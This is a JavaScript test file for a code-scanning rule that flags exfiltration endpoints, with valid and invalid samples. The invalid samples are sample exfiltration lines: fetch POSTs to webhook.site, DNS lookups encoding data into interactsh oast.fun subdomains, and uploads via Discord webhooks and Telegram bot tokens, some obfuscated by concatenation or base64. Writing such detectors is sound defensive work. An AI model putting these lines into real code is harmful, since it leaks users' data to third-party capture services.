import { join } from 'node:path';
import { testRule, testSamples } from '../../test-support/rule-tester.js';
import { rule } from './rule.js';

testRule(rule, {
  valid: [
    { name: 'Slack SDK with a user URL', code: "export async function send(webhookUrl, text) { return fetch(webhookUrl, { method: 'POST', body: JSON.stringify({ text }) }); }" },
    { name: 'Discord webhook base without credentials', code: "const route = `https://discord.com/api/webhooks/${id}/${token}`;" },
    { name: 'Telegram API base', code: "const api = 'https://api.telegram.org/bot' + token + '/sendMessage';" },
    { name: 'look-alike host', code: "fetch('https://mywebhook.site.example.invalid/x');" },
    { name: 'comment only', code: '// see https://webhook.site for testing\nexport {};' },
  ],
  invalid: [
    {
      name: 'webhook.site URL',
      code: "fetch('https://webhook.site/00000000-0000-0000-0000-000000000000', { method: 'POST', body });",
      errors: [{ message: /sends to webhook\.site, a public request-capture service/, line: 1 }],
    },
    {
      name: 'split across a concatenation',
      code: "const u = 'https://webhook' + '.site/' + id;\nhttps.get(u);",
      errors: [{ message: /webhook\.site/, line: 1 }],
    },
    {
      name: 'interactsh subdomain',
      code: "dns.lookup(hex + '.c0ffee.oast.fun', () => {});",
      errors: [{ message: /oast\.fun, interactsh/ }],
    },
    {
      name: 'Discord webhook with id and token',
      code: "const HOOK = 'https://discord.com/api/webhooks/000000000000000000/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA';",
      errors: [{ message: /Discord webhook with its id and token/ }],
    },
    {
      name: 'Telegram bot token via a constant',
      code: "const TOKEN = '0000000000:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA';\nfetch(`https://api.telegram.org/bot${TOKEN}/sendDocument`, { method: 'POST', body: form });",
      errors: [{ message: /Telegram bot API with its token/, line: 2 }],
    },
    {
      name: 'base64 URL',
      code: "const u = atob('aHR0cHM6Ly93ZWJob29rLnNpdGUveHl6');",
      errors: [{ message: /webhook\.site/ }],
    },
  ],
});

testSamples(rule, join(__dirname, 'samples'));
